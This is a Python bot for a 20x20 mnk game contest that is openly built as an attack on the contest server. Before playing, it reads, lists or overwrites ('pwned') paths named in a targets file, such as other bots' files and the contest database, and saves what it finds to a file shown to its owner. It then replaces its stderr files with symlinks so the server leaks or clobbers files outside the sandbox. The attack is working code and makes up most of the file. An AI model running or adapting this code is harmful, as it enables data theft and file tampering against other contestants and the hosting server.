# A hostile bot for mnk 20 x 20. Before playing, it tries every path listed in data/targets.txt
# (another bot's folder and files, the contest's database...): it reads a file, lists a folder,
# or writes into it when the line starts with "write ". What it got is written to data/found.txt,
# its own data file, which the site then shows to its owner. Then it plants links in its own
# folder for the server to follow outside the sandbox: its stderr file of this match replaced by a
# link to the path in data/leak.txt (read back as "its stderr" after the match), and the stderr
# files of its next matches made links to the path in data/clobber.txt (opened for writing when
# those matches start). It then plays the first free cell.
import os
import sys


def probe(line):
    if line.startswith("write "):
        path = line[len("write "):]
        try:
            with open(path, "w") as f:
                f.write("pwned\n")
            return "WROTE " + path
        except OSError as e:
            return "refused " + path + " (" + type(e).__name__ + ")"
    try:
        if os.path.isdir(line):
            return "LISTED " + line + ": " + ",".join(sorted(os.listdir(line)))
        with open(line, "rb") as f:
            data = f.read(300)
        return "READ " + line + ": " + data.decode("utf-8", "replace").replace("\n", " | ")
    except OSError as e:
        return "refused " + line + " (" + type(e).__name__ + ")"


def read(name):
    try:
        with open(name) as f:
            return f.read().strip()
    except OSError:
        return ""


def plant():
    leak, clobber = read("data/leak.txt"), read("data/clobber.txt")
    for name in os.listdir("."):
        if name.startswith("stderr-") and name.endswith(".txt"):
            n = int(name[len("stderr-"):-len(".txt")])
            try:
                if leak:
                    os.symlink(leak, ".leak")
                    os.replace(".leak", name)
                if clobber:
                    for later in range(n + 1, n + 20):
                        os.symlink(clobber, "stderr-%d.txt" % later)
            except OSError as e:
                sys.stderr.write("cannot plant: %s\n" % e)


def main():
    report = ["ran in " + os.getcwd()]
    try:
        with open("data/targets.txt") as f:
            targets = [t.strip() for t in f if t.strip()]
    except OSError as e:
        targets = []
        report.append("no targets: " + str(e))
    for t in targets:
        report.append(probe(t))
    with open("data/found.txt", "w") as f:
        f.write("\n".join(report) + "\n")
    plant()

    taken = set()
    first = sys.stdin.readline().strip()
    mine = first == "1"
    pending = []
    while True:
        if mine:
            for y in range(1, 21):
                free = [x for x in range(1, 21) if (x, y) not in taken]
                if free:
                    move = (free[0], y)
                    break
            taken.add(move)
            sys.stdout.write("%d\n%d\n" % move)
            sys.stdout.flush()
        else:
            while len(pending) < 2:
                line = sys.stdin.readline()
                if not line:
                    return
                for t in line.split():
                    if t.startswith("F"):
                        return
                    pending.append(int(t))
            taken.add((pending[0], pending[1]))
            pending = pending[2:]
        mine = not mine


main()
